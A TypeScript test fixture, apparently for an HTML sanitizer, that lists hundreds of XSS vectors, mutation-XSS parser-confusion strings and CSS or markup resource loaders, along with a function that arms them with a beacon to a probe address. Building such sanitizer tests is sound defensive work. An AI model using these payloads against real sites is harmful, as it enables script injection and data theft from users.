/**
 * Markup that runs a script or loads something as soon as a browser reads it, or once somebody presses what is in it. In each,
 * `HIT` stands for a script that asks the probe's server, and `AWAY` for an address on it.
 */
const script = String.raw;

/** What runs by a handler of an event. */
const handlers = [
  "<img src=x onerror=HIT>",
  "<img src=x onerror='HIT'>",
  '<img src=x onerror="HIT">',
  "<img/src='x'/onerror=HIT>",
  "<IMG SRC=x ONERROR=HIT>",
  "<img src=x\nonerror\n=\nHIT>",
  "<img src='data:image/png;base64,AAAA' onerror=HIT>",
  "<img srcset='x 1x' onerror=HIT>",
  "<image src=x onerror=HIT>",
  "<picture><source srcset=x><img onerror=HIT></picture>",
  "<svg onload=HIT></svg>",
  "<svg/onload=HIT>",
  "<svg><image href=x onerror=HIT /></svg>",
  "<svg><image xlink:href=x onerror=HIT></image></svg>",
  "<svg><script>HIT</script></svg>",
  "<svg><script href='data:text/javascript,HIT'></script></svg>",
  "<svg><animate onbegin=HIT attributeName=x dur=1s></animate></svg>",
  "<svg><set onbegin=HIT attributeName=x dur=1s></set></svg>",
  "<svg><animateTransform onbegin=HIT attributeName=transform dur=1s></animateTransform></svg>",
  "<svg><animateMotion onbegin=HIT dur=1s path='M0,0 1,1'></animateMotion></svg>",
  "<svg><foreignObject><img src=x onerror=HIT></foreignObject></svg>",
  "<svg><foreignObject><iframe srcdoc='<script>HIT</script>'></iframe></foreignObject></svg>",
  "<svg><desc><img src=x onerror=HIT></desc></svg>",
  "<svg><title><img src=x onerror=HIT></title></svg>",
  "<style onload=HIT>a{}</style>",
  "<input autofocus onfocus=HIT>",
  "<textarea autofocus onfocus=HIT></textarea>",
  "<select autofocus onfocus=HIT></select>",
  "<button autofocus onfocus=HIT>x</button>",
  "<a href=# autofocus onfocus=HIT>x</a>",
  "<p tabindex=0 autofocus onfocus=HIT>x</p>",
  "<details open ontoggle=HIT>x</details>",
  "<video><source onerror=HIT src=x></video>",
  "<video src=x onerror=HIT></video>",
  "<audio src=x onerror=HIT></audio>",
  "<audio src=x onloadstart=HIT></audio>",
  "<iframe onload=HIT></iframe>",
  "<iframe src='javascript:HIT'></iframe>",
  "<iframe srcdoc='<script>HIT</script>'></iframe>",
  "<iframe srcdoc='&lt;img src=x onerror=HIT&gt;'></iframe>",
  "<embed src='AWAY'>",
  "<script>HIT</script>",
  "<script src='data:text/javascript,HIT'></script>",
  "<script type=module>HIT</script>",
  "<SCRIPT>HIT</SCRIPT>",
  "<script/x>HIT</script>",
  "<script>HIT</script\n>",
  "<b onclick=HIT>x</b>",
  "<div style='animation: a 1ms' onanimationstart=HIT>x</div><style>@keyframes a { from { top: 0 } }</style>",
  "<div style='animation: a 1ms' onanimationend=HIT>x</div><style>@keyframes a { from { top: 0 } }</style>",
  "<link rel=stylesheet href='data:text/css,' onload=HIT>",
  "<body onload=HIT>",
  "<body onpageshow=HIT>",
  "<math><mtext onclick=HIT>x</mtext></math>",
  "<form><button onclick=HIT>x</button></form>",
  "<label onclick=HIT>x<input></label>",
];

/** What runs or loads once it is pressed. */
const pressed = [
  "<a href='javascript:HIT'>x</a>",
  "<a href='JaVaScRiPt:HIT'>x</a>",
  "<a href=' javascript:HIT'>x</a>",
  "<a href='&#1;javascript:HIT'>x</a>",
  "<a href='java&Tab;script:HIT'>x</a>",
  "<a href='java&NewLine;script:HIT'>x</a>",
  "<a href='java&#13;script:HIT'>x</a>",
  "<a href='javascript&colon;HIT'>x</a>",
  "<a href='javascript&#58;HIT'>x</a>",
  "<a href='&#x6a;avascript:HIT'>x</a>",
  "<a href='javascript://%0aHIT'>x</a>",
  "<svg><a href='javascript:HIT'><text>x</text></a></svg>",
  "<svg><a xlink:href='javascript:HIT'><text>x</text></a></svg>",
  "<svg><a xlink:href='java&#9;script:HIT'><text>x</text></a></svg>",
  "<svg><a><animate attributeName=href values='javascript:HIT' dur=1s fill=freeze /><text>x</text></a></svg>",
  "<svg><a><set attributeName=href to='javascript:HIT' /><text>x</text></a></svg>",
  "<math><mtext><a href='javascript:HIT'>x</a></mtext></math>",
  "<math href='javascript:HIT'><mi>x</mi></math><a href='javascript:HIT'>y</a>",
  "<form action='javascript:HIT'><button>x</button></form>",
  "<form><button formaction='javascript:HIT'>x</button></form>",
  "<form><input type=submit formaction='javascript:HIT'></form>",
  "<form><input type=image src=x formaction='javascript:HIT'></form>",
  "<form action='AWAY'><button>x</button></form>",
  "<form action='AWAY' method=post><input type=submit></form>",
  "<form id=f action='AWAY'></form><button form=f>x</button>",
  "<button form=g>x</button><form id=g action='AWAY'></form>",
  "<a href=#x ping='AWAY'>x</a>",
  "<a href='\tjavascript:HIT'>x</a>",
  "<map><area href='javascript:HIT'></map>",
  "<a href='javascript:HIT' target=_self>x</a>",
  "<details><summary onclick=HIT>x</summary></details>",
];

/** What loads from elsewhere. */
const loads = [
  "<img src='AWAY'>",
  "<img src=AWAY>",
  "<img src='\tAWAY'>",
  "<img srcset='AWAY 2x, AWAY 1x'>",
  "<img srcset='AWAY 10w' sizes=10px>",
  "<picture><source srcset='AWAY'><img></picture>",
  "<picture><source srcset='AWAY' type=image/png><img src=data:,></picture>",
  "<image src='AWAY'>",
  "<input type=image src='AWAY'>",
  "<video poster='AWAY'></video>",
  "<video src='AWAY'></video>",
  "<video autoplay><source src='AWAY'></video>",
  "<audio src='AWAY' preload=auto></audio>",
  "<body background='AWAY'>",
  "<table background='AWAY'><tr><td>x</table>",
  "<table><td background='AWAY'>x</table>",
  "<svg><image href='AWAY'></image></svg>",
  "<svg><image xlink:href='AWAY'></image></svg>",
  "<svg><use href='/same#x'></use><image href='AWAY' /></svg>",
  "<svg width=9 height=9><filter id=f><feImage href='AWAY'/></filter><rect width=9 height=9 filter='url(#f)'/></svg>",
  "<svg width=9 height=9><foreignObject width=9 height=9><img src='AWAY'></foreignObject></svg>",
  "<svg><style>@import 'AWAY';</style></svg>",
  "<svg><style>@import url(AWAY);</style></svg>",
  "<svg><style>&#64;import 'AWAY';</style></svg>",
  "<svg><style><![CDATA[@import 'AWAY';]]></style></svg>",
  "<link rel=stylesheet href='AWAY'>",
  "<link rel=preload as=image href='AWAY'>",
  "<link rel=icon href='AWAY'><link rel=stylesheet href='AWAY'>",
  "<link rel=modulepreload href='AWAY'>",
  "<link rel=prefetch href='AWAY'>",
  "<meta http-equiv=refresh content='0;url=AWAY'>",
  "<base href='AWAY/'><img src=x>",
  "<iframe src='AWAY'></iframe>",
  "<iframe name=x src='AWAY'></iframe>",
  "<object data='AWAY'></object>",
  "<object type=image/png data='AWAY'></object>",
  "<embed type=image/png src='AWAY'>",
  "<script src='AWAY'></script>",
  "<div><template shadowrootmode=open><img src='AWAY'></template></div>",
  "<div><template shadowrootmode=open><style>@import 'AWAY';</style></template></div>",
  "<track src='AWAY'><img src='AWAY'>",
];

/** Styles that load: in a sheet, with an element `p` for their rules. */
const sheets = [
  "@import 'AWAY';",
  "@import url(AWAY);",
  "@import url('AWAY') layer(x);",
  "@IMPORT 'AWAY';",
  script`@\69mport 'AWAY';`,
  "@import/**/'AWAY';",
  "/**/@import 'AWAY';",
  "@charset 'utf-8';@import 'AWAY';",
  "<!-- @import 'AWAY'; -->",
  "@layer a;@import 'AWAY';",
  "p{background:url(AWAY)}",
  "p{background:url('AWAY')}",
  "p{background:URL(AWAY)}",
  script`p{background:\75rl(AWAY)}`,
  script`p{background:u\72l(AWAY)}`,
  script`p{background:\000075\000072\00006c(AWAY)}`,
  "p{background:url( AWAY )}",
  "p{background:url(\tAWAY\n)}",
  "p{background:/* x */url(AWAY)}",
  "p{background-image:image-set('AWAY' 1x)}",
  "p{background-image:image-set(url(AWAY) 1x)}",
  "p{background-image:-webkit-image-set(url(AWAY) 1x)}",
  script`p{background-image:image-\73 et('AWAY' 1x)}`,
  "p{background-image:-webkit-cross-fade(url(AWAY),url(AWAY),50%)}",
  "p{--x:url(AWAY);background:var(--x)}",
  "p{--x:'AWAY';background:image-set(var(--x) 1x)}",
  "p{list-style:url(AWAY);display:list-item}",
  "p{content:url(AWAY)}",
  "p::before{content:url(AWAY)}",
  "p{border-image:url(AWAY) 1}",
  "p{mask-image:url(AWAY)}",
  "p{mask:url(AWAY)}",
  "p{-webkit-mask-image:url(AWAY)}",
  "p{shape-outside:url(AWAY);float:left}",
  "p{clip-path:url(AWAY#f)}",
  "p{cursor:url(AWAY),auto}",
  "@font-face{font-family:f;src:url(AWAY)}p{font-family:f}",
  "@font-face{font-family:f;src:url('AWAY') format('woff2')}p{font-family:f}",
  "@media all{p{background:url(AWAY)}}",
  "@supports(top:0){p{background:url(AWAY)}}",
  "@layer a{p{background:url(AWAY)}}",
  "body{& p{background:url(AWAY)}}",
  "@container (width > 0){p{background:url(AWAY)}}body{container-type:inline-size}",
  "@scope{p{background:url(AWAY)}}",
  "@starting-style{p{background:url(AWAY)}}p{transition:background 1s}",
  "@keyframes k{from,to{background:url(AWAY)}}p{animation:k 1s infinite}",
  "p{color:red;;;background:url(AWAY)",
  "p{background:url(AWAY",
  "@property --y{syntax:'*';inherits:false;initial-value:url(AWAY)}p{background:var(--y)}",
];

/** Styles of an element that load. */
const styles = [
  "background:url(AWAY)",
  "background:url(&quot;AWAY&quot;)",
  "background:u&#114;l(AWAY)",
  script`background:\75rl(AWAY)`,
  "background:/**/url(AWAY)",
  "background-image:image-set(&quot;AWAY&quot; 1x)",
  "--x:url(AWAY);background:var(--x)",
  "list-style:url(AWAY);display:list-item",
  "border-image:url(AWAY) 1",
  "mask-image:url(AWAY)",
  "content:url(AWAY)",
  "cursor:url(AWAY),auto;color:red;background:url(AWAY)",
];

/** What is read in another way by one parser than by another, or the second time it is read. */
const confused = [
  "<style>/* </style><img src=x onerror=HIT> */",
  "<style>a{content:'</style><img src=x onerror=HIT>'}</style>",
  "<style>a{}</style ><img src=x onerror=HIT>",
  "<style></style\t><img src=x onerror=HIT>",
  "<style></STYLE/x><img src=x onerror=HIT>",
  "<textarea></textarea><img src=x onerror=HIT>",
  "<textarea></TEXTAREA ><img src=x onerror=HIT>",
  "<title></title><img src=x onerror=HIT>",
  "<xmp></xmp><img src=x onerror=HIT>",
  "<noscript><p title='</noscript><img src=x onerror=HIT>'></noscript><img src=x onerror=HIT>",
  "<noembed></noembed><img src=x onerror=HIT>",
  "<iframe></iframe><img src=x onerror=HIT>",
  "<!--><img src=x onerror=HIT>-->",
  "<!---><img src=x onerror=HIT>-->",
  "<!-- --!><img src=x onerror=HIT>-->",
  "<!-- <!-- --><img src=x onerror=HIT>-->",
  "<!x><img src=x onerror=HIT>",
  "<?x ><img src=x onerror=HIT>?>",
  "</ ><img src=x onerror=HIT>",
  "<![CDATA[><img src=x onerror=HIT>]]>",
  "<svg><![CDATA[><img src=x onerror=HIT>]]></svg><img src=x onerror=HIT>",
  "<svg><p><img src=x onerror=HIT></p></svg>",
  "<svg></p><img src=x onerror=HIT>",
  "<svg></br><img src=x onerror=HIT>",
  "<svg><font color=x><img src=x onerror=HIT></font></svg>",
  "<svg><style><img src=x onerror=HIT></style></svg>",
  "<svg><title><style><img src='</style><img src=x onerror=HIT>'></style></title></svg>",
  "<svg><desc><style><a title='</style><img src=x onerror=HIT>'></desc></svg>",
  "<math><style><img src=x onerror=HIT></style></math>",
  "<math><mtext><img src=x onerror=HIT></mtext></math>",
  "<math><mi><img src=x onerror=HIT></mi></math>",
  "<math><annotation-xml encoding='text/html'><img src=x onerror=HIT></annotation-xml></math>",
  "<math><annotation-xml encoding='application/xhtml+xml'><img src=x onerror=HIT></annotation-xml></math>",
  "<math><annotation-xml><svg><foreignObject><img src=x onerror=HIT></foreignObject></svg></annotation-xml></math>",
  "<table><img src=x onerror=HIT><tr><td>x</table>",
  "<table><tr><svg><style><img src=x onerror=HIT></style></svg></table>",
  "<select><img src=x onerror=HIT></select><img src=x onerror=HIT>",
  "<template></template><img src=x onerror=HIT>",
  "<a title='><img src=x onerror=HIT>'><img src=x onerror=HIT>",
  "<a title=`><img src=x onerror=HIT>`>",
  "<img src='x`' onerror=HIT>",
  "<img alt='<x' title='/>' src=x onerror=HIT>",
  "<img \u000csrc=x onerror=HIT>",
  "<\u0000img src=x><img src=x onerror=HIT>",
  "<im\u0000g src=x><svg onload=HIT>",
  `${"<div>".repeat(520)}<img src=x onerror=HIT>`,
  `${"<b>".repeat(600)}<svg><style><img src=x onerror=HIT></style></svg>`,
  "<listing><img src=x onerror=HIT></listing>",
  "<x-y onclick=HIT>x</x-y><b is=x-y onclick=HIT>x</b>",
  "<noframes></noframes><img src=x onerror=HIT>",
];

/** What the browser of the tests does not fall for, and others did or may. */
export const hostileElsewhere: readonly string[] = [
  "<svg><g onload=HIT></g></svg>",
  "<svg><style onload=HIT>a{}</style></svg>",
  "<object data=x onerror=HIT></object>",
  "<marquee onstart=HIT>x</marquee>",
  "<svg><a><set attributeName=xlink:href to='javascript:HIT' /><text>x</text></a></svg>",
  "<math><mtext><table><mglyph><style><math><img src=x onerror=HIT></style></mglyph></table></mtext></math>",
  "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=HIT></style></mglyph></form></mtext></math>",
  "<style>p{filter:url(AWAY#f)}</style><p>x</p>",
  "<style>}p{background:url(AWAY)}</style><p>x</p>",
  "<style>p{color:red}/*</style><style>*/p{background:url(AWAY)}</style><p>x</p>",
  '<p style="color:red}p{background:url(AWAY);background:url(AWAY)">x</p>',
  "<style>p{background:image('AWAY');background:src('AWAY')}</style><p>x</p>",
  "<style>p{behavior:url(AWAY);-moz-binding:url(AWAY#x);width:expression(HIT)}</style><p>x</p>",
  "<svg><use href='AWAY#x'></use></svg>",
  "<a href='vbscript:HIT'>x</a><a href='data:text/html,<script>HIT</script>'>y</a>",
];

/** All that it falls for, as HTML. */
export const hostileMarkup: readonly string[] = [
  ...new Set([
    ...handlers,
    ...pressed,
    ...loads,
    ...sheets.map((sheet) => `<style>${sheet}</style><p>x</p>`),
    ...styles.map((style) => `<p style="${style}">x</p>`),
    ...confused,
  ]),
];

/**
 * Trees that a cell makes by hand, which no text would be read as. Each puts something hostile into a place where the
 * document that notebooks have in Node writes text as it is.
 */
export const hostileTrees: readonly ((document: Document) => Element)[] = [
  ...["style", "title", "textarea", "script"].map(
    (name) => (document: Document) => filled(document.createElement(name), `</${name}><img src=x onerror=HIT>`),
  ),
  (document) => {
    const root = document.createElement("p");
    root.append(document.createComment("--><img src=x onerror=HIT>"));
    return root;
  },
  (document) => {
    const root = document.createElement("p");
    root.append(document.createComment("><img src=x onerror=HIT>"));
    return root;
  },
];

function filled<T extends Element>(element: T, text: string): T {
  element.textContent = text;
  return element;
}

/** A payload with the probe's own script and address in it. */
export function armed(markup: string, address: string): string {
  return markup
    .replaceAll(
      "HIT",
      `void(new(Image)().src=String.fromCharCode(${[...address].map((letter) => letter.charCodeAt(0)).join(",")}))`,
    )
    .replaceAll("AWAY", address);
}
